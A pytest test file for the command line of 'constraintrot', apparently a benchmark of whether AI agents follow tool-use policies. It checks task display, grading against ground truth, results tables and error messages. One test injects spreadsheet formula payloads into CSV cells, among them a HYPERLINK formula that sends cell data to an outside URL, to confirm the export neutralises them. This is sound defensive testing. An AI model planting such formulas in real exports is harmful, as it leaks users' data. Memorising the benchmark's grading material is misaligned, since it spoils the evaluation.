"""The command line: what it prints, and what it says to a wrong call."""

import csv
import json
from pathlib import Path

import pytest

from constraintrot.command_line import clear_errors
from constraintrot.episode.channels import CHANNELS, PolicyChannel
from constraintrot.errors import ParameterError
from constraintrot.models.config_errors import plain_errors
from constraintrot.models.in_process.catalogue import MODELS
from constraintrot.report import frame, untrusted
from constraintrot.report.page import frames
from constraintrot.scenario.files import catalogue
from constraintrot.scenario.private import KEY
from constraintrot.scenario.schema import WORDINGS
from tests.conftest import Run
from tests.helpers import register
from tests.invoked import invoked

call = invoked


def shown(task: str, seed: int = 0) -> dict[str, object]:
    found: dict[str, object] = json.loads(call("show", task, "--seed", str(seed), "--json").stdout)
    return found


def test_a_variant_of_another_split_is_asked_for_in_other_words(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    told = json.loads(call("show", "soft_email", "--split", "tuning", "--json").stdout)
    held_out = shown("soft_email")
    assert told["values"] == held_out["values"]
    assert told["trigger"] != held_out["trigger"]
    assert (told["split"], held_out["split"]) == ("tuning", "held_out")
    monkeypatch.delenv(KEY, raising=False)
    refused = call("show", "soft_email", "--split", "private", exits=2)
    assert KEY in refused.stderr


@pytest.mark.parametrize("task", sorted(catalogue()))
def test_show_and_grade_fit_together(task: str) -> None:
    for seed in (0, 7):
        found = shown(task, seed)
        assert set(found) >= {"task", "seed", "locale", "policy", "values", "trigger", "tools"}
        assert set(found["policy"]) == set(WORDINGS)  # type: ignore[call-overload]
        truth = found["ground_truth"]
        for key, outcome in (("violates", "violated"), ("complies", "complied")):
            text = json.dumps(truth[key])  # type: ignore[index]
            graded = call("grade", task, "--seed", str(seed), "--call", "-", input=text)
            answer = json.loads(graded.stdout)
            assert answer["outcome"] == outcome
            assert answer["reason"]


@pytest.mark.parametrize(
    ("task", "slot", "kind"),
    [
        ("soft_email", "domain", str),
        ("soft_language", "language", str),
        ("soft_channel", "channel", str),
        ("soft_deploy", "region", str),
        ("soft_spend", "limit", int),
        ("hard_proddb", "database", str),
        ("hard_secret", "path", str),
        ("hard_pii", "ssn", str),
        ("hard_seccontrol", "statement", str),
    ],
)
def test_values_hold_what_the_predicate_needs(task: str, slot: str, kind: type) -> None:
    values = shown(task)["values"]
    assert isinstance(values[slot], kind)  # type: ignore[index]


def test_show_reads_well_without_json() -> None:
    result = call("show", "soft_spend", exits=0)
    assert "policy (declarative):" in result.stdout
    assert "violates: purchase(" in result.stdout
    assert 'values:\n  {"org": ' in result.stdout
    assert "tools:\n  purchase(item, amount_usd" in result.stdout


def test_show_says_that_the_same_call_complies_after_another() -> None:
    said = call("show", "soft_approval").stdout
    assert said.endswith("complies: the same call, after the call that the policy asks for first\n")


def test_grade_reads_a_list_and_a_file(tmp_path: Path) -> None:
    truth = shown("soft_deploy")["ground_truth"]
    both = [truth["complies"], truth["violates"]]  # type: ignore[index]
    path = tmp_path / "calls.json"
    path.write_text(json.dumps(both), encoding="utf-8")
    answer = json.loads(call("grade", "soft_deploy", "--call", str(path)).stdout)
    assert answer["outcome"] == "violated"
    assert json.loads(call("grade", "soft_deploy", "--call", "-", input="[]").stdout) == {
        "outcome": "no_call",
        "reason": "no tool was called",
    }


@pytest.mark.parametrize(
    ("arguments", "stdin", "says"),
    [
        (["show", "soft_mail"], None, "unknown task 'soft_mail'; known: hard_pii"),
        (
            ["show", "hard_pii", "--locale", "zh"],
            None,
            "unknown locale of hard_pii 'zh'; known: en",
        ),
        (["grade", "soft_email", "--call", "-"], "{oops", "--call: not JSON"),
        (["models", "path", "gpt-2"], None, "unknown local model 'gpt-2'; known:"),
        (["table", "nowhere.eval"], None, "no such log: nowhere.eval"),
        (["table", "."], None, "--by colour: unknown; known: family"),
    ],
)
def test_a_wrong_call_exits_with_2_and_one_line(
    arguments: list[str],
    stdin: str | None,
    says: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    extra = ["--by", "colour"] if "colour" in says else []
    result = call(*arguments, *extra, input=stdin, exits=2)
    assert result.stderr.startswith("constraintrot: ")
    assert says in result.stderr
    assert result.stderr.count("\n") == 1
    assert "Traceback" not in result.output


def test_what_is_worded_for_inspect_is_read_here_too(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as left, clear_errors(), plain_errors():
        raise ParameterError("install it: pip install 'constraintrot[local]'")
    assert left.value.code == 2
    said = "constraintrot: install it: pip install 'constraintrot[local]'\n"
    assert capsys.readouterr().err == said
    with pytest.raises(ZeroDivisionError), clear_errors():
        raise ZeroDivisionError


def test_models_that_are_not_here_say_how_to_get_them() -> None:
    listed = call("models", "list")
    assert "local/qwen2.5-coder-1.5b" in listed.stdout
    assert "constraintrot models pull qwen2.5-coder-1.5b" in listed.stdout
    missing = call("models", "path", "qwen2.5-coder-1.5b", exits=1)
    assert "models pull" in missing.stderr


def test_table_shows_cells_with_n_and_intervals(run: Run, tmp_path: Path) -> None:
    run("soft_email", variants=3)
    run("utility", variants=1)
    out = tmp_path / "episodes.csv"
    result = call("table", str(tmp_path / "logs"), "--by", "family", "--csv", str(out), exits=0)
    lines = result.stdout.splitlines()
    assert "Model: scripted/obedient" in lines
    floors = [line for line in lines if line.startswith("| soft_email") and "floor" in line]
    allowed, prohibited = sorted(floors, key=lambda line: "prohibited" in line)
    assert "3/3 = 100 % [29, 100]" in prohibited
    assert "0/1 = 0 % [0, 98]" in allowed
    assert "1/1 = 100 % [3, 100]" in allowed
    assert len(out.read_text(encoding="utf-8").splitlines()) == 1 + 9 + 27


SIGNS = ("=", "+", "-", "@", "＝")
FORMULA = '=HYPERLINK("https://example.com/?"&A1,"open")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-1+1", "@SUM(1)", "\t=1+1", " =1+1", "＝1+1"])
def test_no_cell_of_a_table_is_a_formula(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cell: str
) -> None:
    run("soft_email", variants=1, conditions="floor")
    plain = frame.planned_episodes([tmp_path / "logs"])
    plain["reason"] = plain["agent"] = cell
    monkeypatch.setattr(frame, "planned_episodes", lambda logs: plain)
    out = tmp_path / "episodes.csv"
    for more in ((), ("--defenses",)):
        call("table", str(tmp_path / "logs"), "--csv", str(out), *more, exits=0)
        with out.open(encoding="utf-8", newline="") as file:
            cells = [one for row in csv.reader(file) for one in row]
        assert not [one for one in cells if one.lstrip(" \u3000").startswith(SIGNS)]
    call("table", str(tmp_path / "logs"), "--csv", str(out))
    assert set(frames.read(str(out))["reason"]) == {untrusted.visible(cell)}


@pytest.mark.parametrize("place", [".", "closed/e.csv"])
def test_a_table_that_cannot_be_written_is_one_clear_line(
    run: Run, tmp_path: Path, place: str
) -> None:
    run("soft_email", variants=1, conditions="floor")
    (tmp_path / "closed").write_text("a file, so nothing is in it")
    result = call("table", str(tmp_path / "logs"), "--csv", str(tmp_path / place), exits=2)
    assert isinstance(result.exception, SystemExit)
    assert result.stderr.count("\n") == 1
    assert result.stderr.startswith(f"constraintrot: --csv {tmp_path / place}: ")


def test_models_that_cannot_be_listed_are_one_clear_line(cache: Path) -> None:
    (cache / "models").mkdir(parents=True)
    (cache / "models" / MODELS[0].filename).write_text("planted")
    result = call("models", "list", exits=2)
    assert isinstance(result.exception, SystemExit)
    assert "is not" in result.stderr.splitlines()[-1]
    assert "Traceback" not in result.stderr


def test_the_table_says_what_it_pools(run: Run, tmp_path: Path) -> None:
    run("soft_email", variants=1, conditions="compaction,summary_removed,sham", epochs=2)
    run("soft_email", variants=1, conditions="compaction", compactor="truncate")
    folder = str(tmp_path / "logs")
    pooled = call("table", folder).stdout
    assert "cells pool several values of compactor; part them with --by compactor" in pooled
    assert "intervals clustered over variants" in pooled
    assert "two runs are counted together" not in pooled
    assert (
        "4 of 4 summary_removed and sham episodes are degenerate and in no contrast: the summary"
        " held nothing of the policy (4)."
    ) in pooled
    assert "summary_removed less sham, which is the policy's own part: cannot be told" in pooled
    assert (
        "pool several values of compactor" not in call("table", folder, "--by", "compactor").stdout
    )


def test_a_retried_run_counts_each_episode_once(run: Run, tmp_path: Path) -> None:
    log = run("soft_email", variants=2, conditions="floor")
    whole = Path(log.location)
    whole.with_name(f"copy-{whole.name}").write_bytes(whole.read_bytes())
    (tmp_path / "logs" / "other.json").write_text("{}", encoding="utf-8")
    assert "2/2 = 100 %" in call("table", str(tmp_path / "logs")).stdout


def test_table_marks_silence(tmp_path: Path, run: Run) -> None:
    from tests.helpers import answering

    run("soft_email", model=answering("Hm."), variants=1, conditions="control")
    result = call("table", str(tmp_path / "logs"))
    assert "| 1       | 1      | 0       | 1 !" in result.stdout
    assert "silence is not safety" in result.stdout


def test_a_table_of_errors_alone_says_which(
    tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    channel = PolicyChannel(lambda episode, given: episode)
    register(monkeypatch, CHANNELS, "mute", channel)
    run("soft_email", variants=2, conditions="control", channel="mute")
    result = call("table", str(tmp_path / "logs"), exits=2)
    assert "2 ended in an error:\n  2 control: EpisodeError('channel mute did not" in result.stderr
    assert "give an Inspect log" not in result.stderr


@pytest.mark.parametrize(
    "line",
    ["demo --variants 0", "show soft_email --seed -1", "harnesses --variants 0", "qualify --model x --variants 50",
     "harnesses --context-tokens 0", "attack search x --eval-seed -1", "which-layer x --variants 0"],
)  # fmt: skip
def test_a_number_out_of_range_is_refused_before_anything_is_played(line: str) -> None:
    assert "is not in the range" in call(*line.split(), exits=2).stderr


def test_an_empty_folder_is_no_table(tmp_path: Path) -> None:
    result = call("table", str(tmp_path), exits=2)
    assert "no finished ConstraintRot episode" in result.stderr
